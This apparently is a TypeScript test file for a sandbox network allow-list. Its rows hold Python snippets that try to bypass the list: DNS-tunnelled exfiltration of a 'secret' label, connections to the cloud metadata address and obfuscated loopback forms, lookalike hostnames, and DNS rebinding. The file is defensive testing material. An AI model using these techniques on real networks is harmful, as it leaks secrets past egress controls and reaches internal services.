/** Y: the network by name: what a list must not let out (S30, S31). */
import { BOTH, type Row } from "../frame/attack.ts";
import { LISTED, OTHER, outwardInOne, PORT, UNLISTED_PORT } from "../means/own_machine.ts";

/** A question for a name in raw labels, sent to the resolver. */
function question(labels: string, { type = 1, dnsClass = 1, tcp = false } = {}): string {
  return `labels = ${labels}
query = b"ZZ\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(one)]) + one for one in labels) + b"\\0"
query += struct.pack(">HH", ${type}, ${dnsClass})
peer = socket.socket(2, ${tcp ? 1 : 2})
peer.connect(("127.0.0.1", 53))
peer.send(${tcp ? 'struct.pack(">H", len(query)) + query' : "query"})
${tcp ? "" : "peer.settimeout(1)"}
print(peer.recv(512))`;
}

const SECRET = '[b"secret-of-the-project", b"other", b"test"]';

const CONNECTED = /^(?:open|data) /;

export const NETWORK_NAMES: readonly Row[] = [
  {
    id: "Y01",
    title: "connect past the list of hosts by an address",
    users: BOTH,
    aim: "evidence",
    ways: {
      "public, private, of the machine, of metadata": outwardInOne([
        Object.fromEntries(
          ([
            ["8.8.2.2", PORT],
            ["8.8.1.1", PORT],
            ["8.8.1.1", 443],
            ["8.8.4.4", UNLISTED_PORT],
            ["8.8.4.4", 443],
            ["::ffff:8.8.2.2", PORT],
            ["2620:fe::fe", PORT],
            ["10.1.2.3", PORT],
            ["169.254.169.254", 80],
            ["::ffff:169.254.169.254", 80],
            ["127.0.0.1", PORT],
            ["127.9.9.9", UNLISTED_PORT],
            ["::1", 443],
            ["0.0.0.0", PORT],
            ["2130706433", 80],
            ["0x7f.1", PORT],
          ] as const).map(([host, port]) => [`${host} ${port}`, `talk("${host}", ${port}, b"GET / HTTP/1.0\\n\\n")`]),
        ),
        CONNECTED,
      ]),
    },
  },
  {
    id: "Y02",
    title: "carry something out in a question for a name",
    users: BOTH,
    aim: "evidence",
    ways: {
      "to the resolver, and to another one": outwardInOne([{
        ...Object.fromEntries(
          Object.entries({ A: 1, AAAA: 28, TXT: 16, HTTPS: 65, NULL: 10, ANY: 255, AXFR: 252 })
            .map(([name, type]) => [name, question(SECRET, { type })]),
        ),
        "of a listed name, TXT": question('[b"named", b"example", b"test"]', { type: 16 }),
        "below a listed name": question('[b"secret", b"named", b"example", b"test"]'),
        "another class": question(SECRET, { dnsClass: 3 }),
        "a NUL": question('[b"named", b"example", b"test\\0other"]'),
        "a dot in a label": question('[b"named.example", b"test"]'),
        "a control byte": question('[b"named\\n", b"example", b"test"]'),
        "by the system's functions": `socket.getaddrinfo("secret.other.test", 80)`,
      }, /^dns /], [{
        "over UDP": `peer = socket.socket(2, 2)\npeer.sendto(b"secret", ("8.8.8.8", 53))`,
        "over TCP": `talk("8.8.8.8", 53, b"secret")`,
        "over IPv6": `peer = socket.socket(10, 2)\npeer.sendto(b"secret", ("2620:fe::fe", 53))`,
      }, /^(?:dns|data|open|udp) .*53|^dns /]),
    },
  },
  {
    id: "Y03",
    title: "reach a host whose name is nearly that of a list",
    users: BOTH,
    aim: "evidence",
    ways: {
      "by its name, or by a listed one on another port": outwardInOne([
        {
          ...Object.fromEntries([
            OTHER,
            "below.example.test",
            "named.example.test.other.test",
            "notnamed.example.test",
            "n\u00e4med.example.test",
            "private.example.test",
            "own.example.test",
          ].map((host) => [host, `talk("${host}", ${PORT})`])),
          "a listed name on another port": `talk("${LISTED}", ${UNLISTED_PORT})`,
          "of a list below": `talk("a.below.example.test", 443)`,
        },
        CONNECTED,
      ]),
    },
  },
  {
    id: "Y04",
    title: "reach what a listed name leads to, where that is no place for commands",
    users: BOTH,
    aim: "evidence",
    ways: {
      "a private network, this machine, the local link, answers that change": outwardInOne([
        Object.fromEntries(["private", "own", "meta"].map((one) => [one, `talk("${one}.example.test", ${PORT})`])),
        CONNECTED,
      ], [
        {
          "eight connections, with an answer that changes at each question": `for _ in range(8):
  try: talk("rebind.example.test", ${PORT})
  except OSError as error: print(error)`,
        },
        /^(?:open|data) ::ffff:127/,
      ]),
    },
  },
];
